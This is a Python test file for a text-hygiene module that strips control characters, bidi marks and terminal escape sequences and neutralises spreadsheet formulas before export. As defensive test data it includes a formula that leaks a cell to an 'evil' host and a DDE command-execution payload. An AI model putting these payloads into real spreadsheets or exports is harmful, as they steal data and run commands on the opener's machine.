"""Text hygiene: control characters out at intake, formulas never live in what we write."""

from __future__ import annotations

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from reporting.intake.hygiene import (
    clean_text,
    clean_text_column,
    clean_text_frame,
    escape_formula,
    escape_formula_frame,
    unescape_formula,
    unescape_formula_frame,
)


def test_clean_text_removes_controls_and_normalises_breaks():
    assert clean_text("\x08好评") == ("好评", True)
    assert clean_text("a\x0bb\x0cc\x1bd\x00e\x7ff\x85g\x9fh") == ("abcdefgh", True)
    assert clean_text("\u202e反转\u202c文字\u2066x\u2069") == ("反转文字x", True)
    assert clean_text("第一行\r\n第二行\r第三行\t完") == ("第一行\n第二行\n第三行 完", False)
    assert clean_text("普通的评价 🙂👍🏽") == ("普通的评价 🙂👍🏽", False)


def test_clean_text_column_counts_cells_and_keeps_missing_and_order():
    column = pd.Series(["\x08差评", None, "好", "\x08差评", "a\x1b"], dtype=object)
    cleaned, count = clean_text_column(column)
    assert cleaned.tolist() == ["差评", None, "好", "差评", "a"]
    assert count == 3


def test_clean_text_frame_leaves_numbers_and_reports_total():
    frame = pd.DataFrame({0: ["x\x00", "y"], 1: [1.5, 2.0], 2: ["\x0cz", None]}).astype({0: object, 2: object})
    cleaned, count = clean_text_frame(frame)
    assert cleaned.to_dict("list") == {0: ["x", "y"], 1: [1.5, 2.0], 2: ["z", None]}
    assert count == 2
    assert frame.iloc[0, 0] == "x\x00"  # the input is not modified


def test_escape_formula_prefixes_what_a_spreadsheet_would_evaluate():
    assert escape_formula('=HYPERLINK("http://evil/?d="&A2,"查看进度")') == '\'=HYPERLINK("http://evil/?d="&A2,"查看进度")'
    assert escape_formula("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"
    assert [escape_formula(v) for v in ("+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx")] == ["'+1+2", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [escape_formula(v) for v in ("-5", "+3.5", "1e3", "好评", "", 7, None)] == ["-5", "+3.5", "1e3", "好评", "", 7, None]
    assert escape_formula("'=1") == "''=1"  # so that reading back gives the apostrophe too


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r0123456789.e好 ")), max_size=8))
def test_unescape_undoes_escape_exactly(text):
    assert unescape_formula(escape_formula(text)) == text


def test_escape_and_unescape_frames_round_trip():
    frame = pd.DataFrame({"a": ["=1+1", "好", None], "b": [1, 2, 3], "c": ["-x", "'@y", "-1"]}, dtype=object)
    escaped = escape_formula_frame(frame)
    assert escaped["a"].tolist() == ["'=1+1", "好", None] and escaped["c"].tolist() == ["'-x", "''@y", "-1"]
    assert unescape_formula_frame(escaped).equals(frame)


def test_console_colour_sequences_and_bidi_marks_go_whole():
    assert clean_text("\x1b[31m红色\x1b[0m字\u200e\u200f\u061c") == ("红色字", True)
    assert clean_text("a\x1b[2;5Hb") == ("ab", True)
